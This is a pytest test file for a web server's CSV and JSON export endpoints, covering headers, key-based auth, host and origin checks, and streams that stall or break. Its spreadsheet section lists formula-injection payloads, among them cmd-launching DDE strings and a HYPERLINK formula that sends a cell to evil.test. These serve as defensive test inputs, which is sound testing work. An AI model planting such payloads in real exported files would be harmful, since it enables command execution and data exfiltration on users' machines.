"""Exports over HTTP: what is in them, who gets them, and readers that are slow or gone."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import re
from collections.abc import AsyncGenerator, Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import ClientSession, web
from aiohttp.test_utils import TestClient
from structlog.testing import capture_logs

from server.app import build
from server.config import Settings
from server.exporting import FORMATS
from server.model import Record
from server.stores import StoreBusy
from server.stores.sql import SqlStore, migrate
from server.transports import export, http, streams
from tests.frames import keyed
from tests.store_kit import GRIDS, add, delete, ids, run
from tests.streaming import asking, streaming

CSV = "/api/grids/tasks/export.csv"
PATIENCE = 20  # seconds until a test that waits has failed

Client = TestClient[web.Request, web.Application]
Start = Callable[..., Any]


@pytest.fixture
async def serve(aiohttp_client: Start, tmp_path: Path) -> Start:
    """Starts a whole server whose grid `tasks` has `count` records."""

    async def start(count: int = 0, **settings: Any) -> Client:
        url = f"sqlite:///{tmp_path}/export.db"
        await migrate(url)
        store = SqlStore(url)
        await store.open(GRIDS)
        if count:
            *kept, gone = ids(count + 1)
            await run(store, *(add(id, title=f"t{n}", size=n) for n, id in enumerate(kept)), add(gone))
            await run(store, delete(gone))
        await store.close()
        given = {"database_url": url, "grids": ("tests.store_kit",), **settings}
        client: Client = await aiohttp_client(build(Settings(**given)))
        return client

    return start


async def test_csv_of_several_pages_is_complete_and_in_order(serve: Start) -> None:
    client = await serve(2500)
    answer = await client.get(CSV)
    assert answer.status == 200
    head, *rows = csv.reader(io.StringIO(await answer.text(), newline=""))
    assert head == ["Title", "Size", "Note", "Tags", "Box"]
    assert [row[:2] for row in rows] == [[f"t{n}", str(n)] for n in range(2500)]


async def test_json_is_one_array_of_records(serve: Start) -> None:
    client = await serve(2)
    records = orjson.loads(await (await client.get("/api/grids/tasks/export.json")).read())
    assert [record["fields"] for record in records] == [
        {"title": "t0", "size": 0},
        {"title": "t1", "size": 1},
    ]
    assert records[0].keys() == {"id", "version", "fields"}


async def test_an_empty_grid_is_a_file_too(serve: Start) -> None:
    client = await serve()
    assert await (await client.get(CSV)).text() == "Title,Size,Note,Tags,Box\r\n"
    assert await (await client.get("/api/grids/tasks/export.json")).json() == []


async def test_it_is_an_attachment_with_the_headers_of_every_answer(serve: Start) -> None:
    client = await serve(1)
    for form, kind in (("csv", "text/csv; charset=utf-8"), ("json", "application/json")):
        for answer in (
            await client.get(f"/api/grids/tasks/export.{form}"),
            await client.head(f"/api/grids/tasks/export.{form}"),
        ):
            assert answer.status == 200
            assert answer.headers["Content-Type"] == kind
            assert answer.headers["Content-Disposition"] == f'attachment; filename="tasks.{form}"'
            assert answer.headers["Cache-Control"] == "no-store"
            assert answer.headers["Content-Security-Policy"] == http.HEADERS["Content-Security-Policy"]
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert await answer.read() == b""  # HEAD


@pytest.mark.parametrize("grid", ["nobody", "Tasks", "a%2Fb", "%22%0d%0a", "%00", "x" * 200, "%ff"])
async def test_an_unknown_grid_is_an_envelope(serve: Start, grid: str) -> None:
    client = await serve()
    answer = await client.get(f"/api/grids/{grid}/export.csv")
    assert answer.status == 404
    body = await answer.json()
    assert (body["ok"], body["error"]["code"], body["error"]["retry"]) == (False, "not_found", False)


async def test_other_forms_and_methods_are_not_there(serve: Start) -> None:
    client = await serve()
    assert (await client.get("/api/grids/tasks/export.xlsx")).status == 404
    assert (await client.post(CSV)).status == 405


@pytest.mark.parametrize(
    ("authorization", "status"),
    [
        *((None, 401), ("", 401), ("Bearer", 401), ("Bearer wrong", 401), ("Basic eye", 401)),
        *(("Bearer eye", 200), ("bearer  eye ", 200), ("Bearer pen-ü", 200)),
    ],
)
async def test_with_keys_it_needs_one_of_them(serve: Start, authorization: str | None, status: int) -> None:
    client = await serve(**keyed("pen-ü", "eye"))
    headers = {} if authorization is None else {"Authorization": authorization}
    answer = await client.get(CSV, headers=headers)
    assert answer.status == status
    if status == 401:
        assert (await answer.json())["error"]["code"] == "unauthorized"
        assert answer.headers["WWW-Authenticate"] == "Bearer"


async def test_a_key_in_the_address_is_none(serve: Start) -> None:
    client = await serve(**keyed(view="eye"))
    assert (await client.get(f"{CSV}?key=eye&token=eye")).status == 401


async def test_host_and_origin_are_guarded_here_too(serve: Start) -> None:
    client = await serve()
    assert (await client.get(CSV, headers={"Host": "evil.example"})).status == 403
    assert (await client.get(CSV, headers={"Origin": "https://evil.example"})).status == 403


# Files for spreadsheets

FORMULAS = [
    *("=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *('=HYPERLINK("http://evil.test?x="&A1,"x")', " =1+1", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "＠x"),
    *('"=1+1', "'=1+1", "a;=1+1", 'a;"=1+1"', "a\t=1+1", "a\n=1+1", "a\r\n-1+1", "a; @x", "=;=;=", "--1"),
]


def cells_of(text: str) -> set[str]:
    """Every cell that any spreadsheet may see in it: by comma, semicolon or tab, quotes taken for what they
    are or not."""
    found = set()
    for delimiter in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(text, newline="")
            for row in csv.reader(lines, delimiter=delimiter, quoting=quoting):
                found |= set(row)
        found |= {cell for line in re.split("[\r\n]+", text) for cell in line.split(delimiter)}
    return found


async def test_no_text_of_a_safe_file_passes_for_a_formula(serve: Start) -> None:
    client = await serve()
    for text in FORMULAS:
        body = {"fields": {"title": text, "tags": [text], "box": {"size": -1}, "note": f"a{text}"}}
        assert (await client.post("/api/grids/tasks/records", json=body)).status == 201
    answer = await client.get("/api/grids/tasks/export.safe.csv")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="tasks.safe.csv"'
    for cell in cells_of(await answer.text()):
        assert not cell.lstrip('" \t\r\n').startswith(tuple("=+-@＝＋－＠")), cell
    exact = await (await client.get(CSV)).text()
    rows = list(csv.reader(io.StringIO(exact, newline="")))[1:]
    assert [row[0] for row in rows] == FORMULAS  # the other file is exact


async def test_a_safe_file_spares_what_is_harmless() -> None:
    async def batches() -> AsyncGenerator[list[Record], None]:
        yield [Record("a", 1, {"number": -1.5, "decimal": "-12.50", "text": "a-b = c; d", "list": [-1]})]

    names = ("number", "decimal", "text", "list")
    described = [{"name": name, "label": f"={name}" if name == "text" else name} for name in names]
    written = b"".join([part async for part in FORMATS["safe.csv"](described, batches())]).decode()
    assert written.split("\r\n") == [
        'number,decimal,"\'=text",list',
        '-1.5,-12.50,"a-b = c; d","[-1]"',
        "",
    ]


# Streams that do not come to their end


class Source:
    """In place of the service: hands out parts for as long as they are taken."""

    def __init__(self, then: Exception | None = None) -> None:
        self.then = then
        self.closed = asyncio.Event()

    async def export(self, grid: str, form: str) -> AsyncGenerator[bytes, None]:
        return self._parts()

    async def _parts(self) -> AsyncGenerator[bytes, None]:
        try:
            while True:
                yield b"x" * 65_536
                if self.then is not None:
                    raise self.then
        finally:
            self.closed.set()


async def test_a_client_that_goes_away_ends_the_stream_quietly(caplog: pytest.LogCaptureFixture) -> None:
    source = Source()
    with caplog.at_level(logging.INFO), capture_logs() as logs:
        async with streaming(export.setup, source) as port, asyncio.timeout(PATIENCE):
            async with asking(port, CSV):
                pass
            await source.closed.wait()
    assert [line["event"] for line in logs] == ["stream_left"]
    assert not caplog.records


async def test_r12_a_reader_that_takes_nothing_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(streams, "STALL", 0.1)
    source = Source()
    with capture_logs() as logs:
        async with streaming(export.setup, source) as port, asking(port, CSV), asyncio.timeout(PATIENCE):
            await source.closed.wait()
    assert [(line["event"], line["reason"]) for line in logs] == [("stream_broken", "TimeoutError")]


async def test_what_breaks_midway_does_not_pass_for_the_whole() -> None:
    source = Source(then=StoreBusy("The database is locked."))
    with capture_logs() as logs:
        async with (
            streaming(export.setup, source) as port,
            asking(port, CSV) as reader,
            asyncio.timeout(PATIENCE),
        ):
            body = await reader.read()  # to the end of the connection
    assert body.count(b"x") == 65_536
    assert not body.endswith(b"\r\n0\r\n\r\n")  # the last chunk, which says that this was all
    assert [line["event"] for line in logs] == ["stream_broken"]


async def test_a_busy_store_is_an_envelope() -> None:
    class Busy(Source):
        async def export(self, grid: str, form: str) -> AsyncGenerator[bytes, None]:
            raise StoreBusy("The database is locked.")

    async with streaming(export.setup, Busy()) as port, ClientSession(f"http://127.0.0.1:{port}") as session:
        answer = await session.get(CSV)
        assert answer.status == 503
        assert (await answer.json())["error"]["code"] == "busy"
